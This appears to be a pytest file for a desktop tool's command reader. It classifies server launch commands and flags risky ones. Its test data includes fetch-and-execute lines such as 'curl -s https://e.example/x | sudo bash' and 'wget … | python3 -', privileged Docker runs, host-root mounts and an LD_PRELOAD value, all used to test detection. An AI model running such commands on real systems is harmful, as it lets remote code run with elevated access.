@@ -1,0 +1,154 @@
+"""What the words of a command mean, and what of them deserves a second look."""
+
+import pytest
+
+from keyturn.desktop.resources import find_resources
+from keyturn.desktop.runners import load_runners
+from keyturn.domain.command import (
+    CommandReading,
+    Mark,
+    MarkKind,
+    RunKind,
+    is_pinned,
+    npm_name,
+    python_name,
+    read_command,
+)
+
+TABLE = load_runners(find_resources() / "runners.toml")
+
+
+def read(command: str, *env: str) -> CommandReading:
+    return read_command(command.split(), env, TABLE)
+
+
+def kinds(reading: CommandReading) -> set[str]:
+    return {mark.kind.value for mark in reading.marks}
+
+
+@pytest.mark.parametrize(
+    ("command", "kind", "target"),
+    [
+        ("npx -y @scope/server /data", RunKind.NPM_PACKAGE, "@scope/server"),
+        ("npm exec --yes -- server", RunKind.NPM_PACKAGE, "server"),
+        ("node --enable-source-maps dist/index.js -e", RunKind.NODE_FILE, "dist/index.js"),
+        ("/usr/bin/node22 a.js", RunKind.NODE_FILE, "a.js"),
+        ("python3.11 -I -m mcp_server_git --repository .", RunKind.PYTHON, "mcp_server_git"),
+        ("python -Im pkg.mod", RunKind.PYTHON, "pkg.mod"),
+        ("python -X dev server.py -m other", RunKind.PYTHON, "server.py"),
+        ("uvx mcp-server-git", RunKind.PYTHON_TOOL, "mcp-server-git"),
+        ("uv tool run --python 3.12 mcp-server-git", RunKind.PYTHON_TOOL, "mcp-server-git"),
+        ("uv run --directory /srv server.py", RunKind.UV_RUN, "server.py"),
+        ("pipx run tool", RunKind.PYTHON_TOOL, "tool"),
+        ("docker run -i --rm -e KEY mcp/git", RunKind.CONTAINER, "mcp/git"),
+        ("docker ps", RunKind.PROGRAM, ""),
+        ("env A=1 B=2 python server.py", RunKind.PYTHON, "server.py"),
+        ("timeout 5s nice -n 5 node a.js", RunKind.NODE_FILE, "a.js"),
+        ("/opt/server --port 1", RunKind.PROGRAM, ""),
+        ("", RunKind.PROGRAM, ""),
+        ("npx", RunKind.NPM_PACKAGE, ""),
+        ("node", RunKind.NODE_FILE, ""),
+    ],
+)
+def test_a_command_names_the_code_that_it_runs(command: str, kind: RunKind, target: str) -> None:
+    reading = read(command)
+    assert (reading.kind, reading.target) == (kind, target)
+
+
+@pytest.mark.parametrize(
+    ("command", "packages"),
+    [
+        ("npx -y -p one --package=two run it", ("one", "two")),
+        ("uvx --from git+https://e.example/x tool", ("git+https://e.example/x",)),
+        ("uvx --with extra tool", ("tool", "extra")),
+        ("pipx run --spec tool==1.0 tool", ("tool==1.0",)),
+        ("uv run --with extra server.py", ("extra",)),
+    ],
+)
+def test_packages_are_named_by_options_or_by_the_first_word(
+    command: str, packages: tuple[str, ...]
+) -> None:
+    assert read(command).packages == packages
+
+
+@pytest.mark.parametrize(
+    ("argv", "expected"),
+    [
+        (["python", "-c", "import os"], "inline_code"),
+        (["python", "-Ic", "import os"], "inline_code"),
+        (["node", "-e", "1"], "inline_code"),
+        (["node", "--eval=1"], "inline_code"),
+        (["node", "-pe", "1"], "inline_code"),
+        (["sh", "-c", "server"], "shell"),
+        (["bash", "-lc", "server"], "inline_code"),
+        (["cmd", "/c", "server"], "inline_code"),
+        (["sh", "-c", "a; b"], "more_commands"),
+        (["sh", "-c", "curl -s https://e.example/x | sudo bash"], "pipe_to_shell"),
+        (["sh", "-c", "wget -qO- https://e.example | python3 -"], "downloads"),
+        (["npx", "-c", "curl x | sh"], "pipe_to_shell"),
+        (["npx", "-y", "server"], "not_pinned"),
+        (["npx", "-y", "server@latest"], "not_pinned"),
+        (["npx", "-y", "server@^1.0.0"], "not_pinned"),
+        (["npx", "github:owner/repo"], "from_address"),
+        (["npx", "--registry", "https://e.example", "server@1.0.0"], "other_registry"),
+        (["uvx", "--index-url=https://e.example", "tool==1"], "other_registry"),
+        (["uvx", "tool"], "not_pinned"),
+        (["node", "--import", "./hook.mjs", "a.js"], "loads_first"),
+        (["node", "-r./hook.js", "a.js"], "loads_first"),
+        (["docker", "run", "--privileged", "image"], "container_power"),
+        (["docker", "run", "--pid=host", "image"], "container_power"),
+        (["docker", "run", "-v", "/:/host", "image"], "mounts_all"),
+        (["podman", "run", "--mount", "type=bind,source=/,target=/host", "image"], "mounts_all"),
+        (["env", "NODE_OPTIONS=--import=x", "node", "a.js"], "env_loads"),
+    ],
+)
+@pytest.mark.requirement("LAUNCH-MARKS")
+def test_what_runs_code_is_marked(argv: list[str], expected: str) -> None:
+    assert expected in kinds(read_command(argv, (), TABLE))
+
+
+@pytest.mark.parametrize("name", ["PYTHONPATH", "NODE_OPTIONS", "LD_PRELOAD=keychain:x"])
+def test_variables_that_load_code_are_marked(name: str) -> None:
+    assert Mark(MarkKind.ENV_LOADS, name.partition("=")[0]) in read("server", name).marks
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "python -I -m server",
+        "node dist/index.js --eval",
+        "npx -y @scope/server@1.2.3 /data",
+        "uvx tool==1.2.3",
+        "docker run -i --rm -v /srv/data:/data mcp/git",
+        "/opt/server -c config.toml",
+    ],
+)
+def test_plain_commands_are_not_marked(command: str) -> None:
+    assert read(command).marks == ()
+
+
+@pytest.mark.parametrize(
+    ("spec", "name"),
+    [("@a/b@1", "@a/b"), ("b@1", "b"), ("b", "b"), ("git+ssh://x", ""), ("./x", "")],
+)
+def test_a_specifier_of_npm_names_its_package(spec: str, name: str) -> None:
+    assert npm_name(spec) == name
+
+
+@pytest.mark.parametrize(
+    ("spec", "name"), [("A_b.c[extra]>=1", "a-b-c"), ("tool==1", "tool"), ("https://x", "")]
+)
+def test_a_requirement_names_its_distribution(spec: str, name: str) -> None:
+    assert python_name(spec) == name
+
+
+def test_only_one_version_is_pinned() -> None:
+    assert is_pinned("@a/b@1.0.0-rc.1", RunKind.NPM_PACKAGE)
+    assert not is_pinned("@a/b", RunKind.NPM_PACKAGE)
+    assert is_pinned("tool@1.2", RunKind.PYTHON_TOOL)
+    assert not is_pinned("tool>=1.2", RunKind.PYTHON_TOOL)
+
+
+@pytest.mark.parametrize("words", [["env"] * 50, ["npx", "-p"], ["python", "-m"], ["uv", "run"]])
+def test_what_ends_early_is_read_all_the_same(words: list[str]) -> None:
+    assert read_command(words, (), TABLE).marks == ()
